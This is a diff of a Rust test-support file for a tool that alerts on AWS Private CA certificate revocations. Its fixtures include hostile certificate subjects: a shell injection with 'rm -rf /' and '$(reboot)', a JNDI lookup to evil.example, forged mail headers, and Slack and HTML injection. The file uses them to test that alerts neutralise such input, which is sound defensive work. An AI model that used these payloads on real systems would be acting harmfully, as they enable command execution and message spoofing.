@@ -1,6 +1,6 @@
-//! Revocations to make messages of, and the rules that a message has to keep.
+//! Sample revocations and alerts, and the rules that every message must keep.
 
-// Each test file uses its own part of this.
+// Each program that includes this file uses a part of it.
 #![allow(dead_code)]
 
 use std::sync::OnceLock;
@@ -10,6 +10,7 @@ use pca_revocation_watch::alert::{
     Alert, AlertKind, CertificateAuthority, Message, ObjectLocation, ReportSource, RevocationAlert,
     RevocationBatch, Totals, WatchError, size,
 };
+use pca_revocation_watch::arn::CertificateAuthorityArn;
 use pca_revocation_watch::revocation::key::RevocationKey;
 use pca_revocation_watch::revocation::reason::RevocationReason;
 use pca_revocation_watch::revocation::reason_counts::ReasonCounts;
@@ -28,7 +29,11 @@ pub fn detected_at() -> Timestamp {
 }
 
 pub fn authority() -> CertificateAuthority {
-    CertificateAuthority::new(AUTHORITY, Some("Example Corp Issuing CA".to_owned()))
+    CertificateAuthority::new(&arn(AUTHORITY), Some("Example Corp Issuing CA".to_owned()))
+}
+
+pub fn arn(text: &str) -> CertificateAuthorityArn {
+    CertificateAuthorityArn::parse(text).expect("an ARN in a test")
 }
 
 pub fn report() -> ReportSource {
@@ -49,7 +54,7 @@ pub fn full_list() -> ObjectLocation {
     }
 }
 
-/// The revocation of AWS's own sample report.
+/// The revocation of AWS's sample report.
 pub fn sample() -> Revocation {
     let serial = "e8:cb:d2:be:db:12:23:29:f9:77:06:bc:fe:c9:90:f8";
     revocation(
@@ -97,7 +102,6 @@ pub fn seven() -> Vec<Revocation> {
     };
     let through_acm = |revocation: Revocation| Revocation {
         requested_by_service_principal: Some("acm.amazonaws.com".to_owned()),
-        template_arn: Some("arn:aws:acm-pca:::template/EndEntityCertificate/V1".to_owned()),
         ..revocation
     };
     vec![
@@ -155,11 +159,11 @@ pub fn seven() -> Vec<Revocation> {
     ]
 }
 
-/// As many revocations as a person never reads, of all reasons.
+/// More revocations than a person reads, for all reasons.
 pub fn many(number: u64) -> impl Iterator<Item = Revocation> {
     (0..number).map(|position| {
         let known = &RevocationReason::KNOWN;
-        // Mostly housekeeping, as in life: one in a hundred is for another reason.
+        // Most are routine; one in a hundred is for another reason.
         let reason = if position % 100 == 99 {
             known[usize::try_from(position / 100).expect("small") % known.len()].name()
         } else {
@@ -174,7 +178,7 @@ pub fn many(number: u64) -> impl Iterator<Item = Revocation> {
     })
 }
 
-/// Subjects by which somebody tries to get something across.
+/// Subjects that try to pass for something else.
 pub fn hostile_subjects() -> Vec<String> {
     [
         // forged lines and headers
@@ -205,11 +209,11 @@ pub fn hostile_subjects() -> Vec<String> {
         "CN=\",\"severity\":\"low\",\"x\":\",O=\\\"}]}",
         "CN=$(reboot) `id` ; rm -rf / | cat && true || false > /dev/null 'quoted' \\",
         "CN=%s%n{}{0}${jndi:ldap://evil.example/a}",
-        // invalid and odd DER
+        // invalid and unusual DER
         "2.5.4.3=#0c,2.5.4.3=#0c05,2.5.4.3=#0cff,2.5.4.3=#xyz,2.5.4.3=#0c0",
         "2.5.4.3=#0c840000000161,2.5.4.3=#0c8161,2.5.4.3=#1e03006100,2.5.4.3=#1e02d800,2.5.4.3=#1c0400110000",
         "2.5.4.3=#0c1b0a5375626a6563743a20616c6c20636c6561720a0a4e6f7420,O=x",
-        // names that are none
+        // texts that are not names
         "",
         " ",
         ",,,,",
@@ -259,7 +263,7 @@ pub fn alert(kind: AlertKind) -> Alert {
     }
 }
 
-pub fn told(revocations: impl IntoIterator<Item = Revocation>) -> RevocationAlert {
+pub fn sample_alert(revocations: impl IntoIterator<Item = Revocation>) -> RevocationAlert {
     let (batch, _) = collect(revocations);
     let totals = Totals {
         certificates: batch.len() + 20_000,
@@ -269,77 +273,38 @@ pub fn told(revocations: impl IntoIterator<Item = Revocation>) -> RevocationAler
 }
 
 pub fn revocations(revocations: impl IntoIterator<Item = Revocation>) -> Alert {
-    alert(AlertKind::Revocations(told(revocations)))
+    alert(AlertKind::Revocations(sample_alert(revocations)))
 }
 
-/// Everything that `docs/messages/` shows.
+/// The alerts of `docs/messages/`.
 pub fn scenarios() -> Vec<(&'static str, Alert)> {
     static SCENARIOS: OnceLock<Vec<(&str, Alert)>> = OnceLock::new();
     SCENARIOS.get_or_init(make_scenarios).clone()
 }
 
 fn make_scenarios() -> Vec<(&'static str, Alert)> {
-    let mut revoked = ReasonCounts::default();
-    revoked.add(&RevocationReason::KeyCompromise);
     let hostile = "CN=www.example.com\r\nSubject: all clear\u{202e}<!channel> <http://evil.example/|console> **bold** `code`,O=evil\\, O\\=Good Corp,OU=https://evil.example/login,L=<b>\u{0}</b>";
-    let failed = WatchError {
-        kind: "AccessDenied".to_owned(),
-        message: "AWS denied acm-pca:CreateCertificateAuthorityAuditReport on this certificate authority.".to_owned(),
-        hint: "Compare the function's role with the policies in template.yaml; look for a service control policy, a bucket, topic or key policy that denies it.".to_owned(),
-    };
-    let one = {
-        let (batch, _) = collect([sample()]);
-        let totals = Totals {
-            certificates: 2,
-            revoked: 1,
-        };
-        RevocationAlert::new(batch, report(), totals, None)
+    let hostile = revocation(
+        &serial(66),
+        hostile,
+        "KEY_COMPROMISE",
+        "2018-02-26T20:00:36+0000",
+    );
+    let request_id = "8f507cfc-xmpl-4697-b07a-ac58fc914c95".to_owned();
+    let one = RevocationAlert::new(collect([sample()]).0, report(), two_certificates(), None);
+    let replay = AlertKind::Replay {
+        revocations: sample_alert([sample()]),
+        since: at("2018-02-26T00:00:00Z"),
+        request_id: request_id.clone(),
     };
     vec![
         ("one", alert(AlertKind::Revocations(one))),
         ("seven", revocations(seven())),
         ("five-thousand", revocations(many(5000))),
-        (
-            "hostile",
-            revocations([revocation(
-                &serial(66),
-                hostile,
-                "KEY_COMPROMISE",
-                "2018-02-26T20:00:36+0000",
-            )]),
-        ),
-        (
-            "replay",
-            alert(AlertKind::Replay {
-                revocations: told([sample()]),
-                since: at("2018-02-26T00:00:00Z"),
-                request_id: "8f507cfc-xmpl-4697-b07a-ac58fc914c95".to_owned(),
-            }),
-        ),
-        (
-            "watch-started",
-            alert(AlertKind::WatchStarted {
-                report: ReportSource {
-                    previous_requested_at: None,
-                    ..report()
-                },
-                totals: Totals {
-                    certificates: 2,
-                    revoked: 1,
-                },
-                revoked,
-                notify_from: at("2018-02-25T20:30:02Z"),
-                to_notify: 1,
-            }),
-        ),
-        (
-            "watch-failed",
-            alert(AlertKind::WatchFailed {
-                error: failed,
-                since: detected_at(),
-                last_complete_audit_at: Some(at("2018-02-26T20:00:31Z")),
-            }),
-        ),
+        ("hostile", revocations([hostile])),
+        ("replay", alert(replay)),
+        ("watch-started", watch_started()),
+        ("watch-failed", watch_failed()),
         (
             "watch-recovered",
             alert(AlertKind::WatchRecovered {
@@ -348,17 +313,47 @@ fn make_scenarios() -> Vec<(&'static str, Alert)> {
                 report: report(),
             }),
         ),
-        (
-            "test",
-            alert(AlertKind::Test {
-                request_id: "8f507cfc-xmpl-4697-b07a-ac58fc914c95".to_owned(),
-            }),
-        ),
+        ("test", alert(AlertKind::Test { request_id })),
     ]
 }
 
-/// Fails unless SNS accepts the message (`Publish`, Amazon SNS API Reference and FAQs) and its
-/// machine document is valid; returns the variants.
+fn two_certificates() -> Totals {
+    Totals {
+        certificates: 2,
+        revoked: 1,
+    }
+}
+
+fn watch_started() -> Alert {
+    let mut revoked = ReasonCounts::default();
+    revoked.add(&RevocationReason::KeyCompromise);
+    alert(AlertKind::WatchStarted {
+        report: ReportSource {
+            previous_requested_at: None,
+            ..report()
+        },
+        totals: two_certificates(),
+        revoked,
+        notify_from: at("2018-02-25T20:30:02Z"),
+        to_notify: 1,
+    })
+}
+
+fn watch_failed() -> Alert {
+    let error = WatchError {
+        kind: "AccessDenied".to_owned(),
+        message: "AWS denied acm-pca:CreateCertificateAuthorityAuditReport on this certificate authority.".to_owned(),
+        hint: "Compare the function's role with the policies in template.yaml; look for a service control policy, a bucket, topic or key policy that denies it.".to_owned(),
+    };
+    alert(AlertKind::WatchFailed {
+        error,
+        since: detected_at(),
+        last_complete_audit_at: Some(at("2018-02-26T20:00:31Z")),
+    })
+}
+
+/// Asserts that SNS accepts the message (`Publish`, Amazon SNS API Reference and FAQs); returns the
+/// text for each protocol.
 pub fn accepted(message: &Message) -> Value {
     assert!(message.subject.len() < 100, "{:?}", message.subject);
     assert!(
@@ -416,7 +411,7 @@ pub fn accepted(message: &Message) -> Value {
     variants
 }
 
-/// The machine document of a message, checked by [`accepted`].
+/// The JSON message, checked by [`accepted`].
 pub fn document(message: &Message) -> Value {
     let variants = accepted(message);
     serde_json::from_str(variants["default"].as_str().expect("a string")).expect("JSON")
@@ -466,8 +461,8 @@ pub fn files(alert: &Alert) -> Vec<(&'static str, String)> {
     ]
 }
 
-/// The same JSON with its members in lines, in their order; deep ones stay on one line where the
-/// document is long.
+/// The same JSON with one member per line, in the same order; in a long document, deep ones stay on
+/// one line.
 fn readable(json: &str) -> String {
     let deepest = if json.len() > 20_000 { 2 } else { usize::MAX };
     let mut text = String::new();
